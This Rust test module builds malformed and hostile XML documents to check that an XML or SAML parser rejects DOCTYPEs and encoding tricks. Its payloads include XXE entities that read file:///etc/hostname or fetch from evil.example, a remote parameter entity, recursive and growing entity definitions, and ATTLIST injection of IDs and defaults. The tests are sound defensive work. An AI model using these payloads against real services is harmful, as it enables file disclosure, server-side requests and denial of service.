//! Document types, and encodings to hide one in.

use passerelle::xml::DoorFault;

use super::super::{
    case::{Case, door, harmless, malformed},
    genuine::Genuine,
};
use crate::bridge::ZOOM;

pub(super) fn cases(genuine: &Genuine) -> Vec<Case> {
    let xml = &genuine.xml;
    let mut cases = declared(xml);
    let mark = "\u{feff}";
    let declaring =
        |encoding: &str| format!("<?xml version=\"1.0\" encoding=\"{encoding}\"?>{xml}");
    let utf16 = |text: &str, octets: fn(u16) -> [u8; 2]| -> Vec<u8> {
        text.encode_utf16().flat_map(octets).collect()
    };
    let hidden = format!("<!DOCTYPE x>{xml}");
    let marked = format!("{mark}{hidden}");
    cases.extend([
        door(
            "DOCTYPE in UTF-16LE",
            utf16(&marked, u16::to_le_bytes),
            DoorFault::Encoding,
        ),
        door(
            "DOCTYPE in UTF-16BE",
            utf16(&marked, u16::to_be_bytes),
            DoorFault::Encoding,
        ),
        door(
            "DOCTYPE in UTF-16LE without a mark",
            utf16(&hidden, u16::to_le_bytes),
            DoorFault::Encoding,
        ),
        door(
            "the genuine in UTF-16BE without a mark",
            utf16(xml, u16::to_be_bytes),
            DoorFault::Encoding,
        ),
        door("DOCTYPE behind a mark", marked.clone(), DoorFault::Doctype),
        door(
            "two marks",
            format!("{mark}{mark}{xml}"),
            DoorFault::Encoding,
        ),
        harmless("one mark", format!("{mark}{xml}"), "XML 1.0 4.3.3 has it"),
        harmless("UTF-8 declared", declaring("utf-8"), "it is"),
        door("UTF-7 declared", declaring("UTF-7"), DoorFault::Encoding),
        door("UTF-16 declared", declaring("UTF-16"), DoorFault::Encoding),
        door(
            "Latin 1 declared",
            declaring("ISO-8859-1"),
            DoorFault::Encoding,
        ),
        door("EBCDIC declared", declaring("IBM037"), DoorFault::Encoding),
        malformed("DOCTYPE in UTF-7", format!("+ADwAIQ-DOCTYPE x+AD4-{xml}")),
        door(
            "Latin 1",
            [xml.as_bytes(), b"\xe9"].concat(),
            DoorFault::Encoding,
        ),
        door(
            "overlong UTF-8",
            [b"\xc0\xbc!DOCTYPE x>", xml.as_bytes()].concat(),
            DoorFault::Encoding,
        ),
        door(
            "a zero octet",
            [xml.as_bytes(), b"\0"].concat(),
            DoorFault::Encoding,
        ),
        door(
            "XML 1.1",
            format!("<?xml version=\"1.1\"?>{xml}"),
            DoorFault::Declaration,
        ),
    ]);
    cases
}

fn declared(xml: &str) -> Vec<Case> {
    let entity = |inside: &str| format!("<!DOCTYPE r [{inside}]>{}", xml.replacen(ZOOM, "&x;", 1));
    let before = |what: &str| format!("{what}{xml}");
    [
        ("DOCTYPE", before("<!DOCTYPE x>")),
        (
            "DOCTYPE behind a declaration",
            before("<?xml version=\"1.0\"?>\n<!DOCTYPE x>"),
        ),
        (
            "DOCTYPE with SYSTEM",
            before("<!DOCTYPE x SYSTEM \"https://evil.example/x.dtd\">"),
        ),
        (
            "DOCTYPE with PUBLIC",
            before("<!DOCTYPE x PUBLIC \"-//x\" \"https://evil.example/x.dtd\">"),
        ),
        (
            "an internal entity",
            entity(&format!("<!ENTITY x \"{ZOOM}\">")),
        ),
        (
            "an entity of a file",
            entity("<!ENTITY x SYSTEM \"file:///etc/hostname\">"),
        ),
        (
            "an entity of the network",
            entity("<!ENTITY x SYSTEM \"https://evil.example/x\">"),
        ),
        (
            "a parameter entity",
            entity("<!ENTITY % p SYSTEM \"https://evil.example/p\"> %p;"),
        ),
        ("an entity of itself", entity("<!ENTITY x \"&x;\">")),
        (
            "entities that grow",
            entity("<!ENTITY a \"&b;&b;&b;&b;\"><!ENTITY b \"ha\"><!ENTITY x \"&a;&a;&a;&a;\">"),
        ),
        (
            "an ID by declaration",
            before("<!DOCTYPE r [<!ATTLIST r Other ID #IMPLIED>]>"),
        ),
        (
            "an attribute by default",
            before("<!DOCTYPE r [<!ATTLIST r ForceAuthn CDATA \"true\">]>"),
        ),
        ("DOCTYPE behind the root", format!("{xml}<!DOCTYPE x>")),
    ]
    .map(|(name, xml)| door(name, xml, DoorFault::Doctype))
    .into()
}
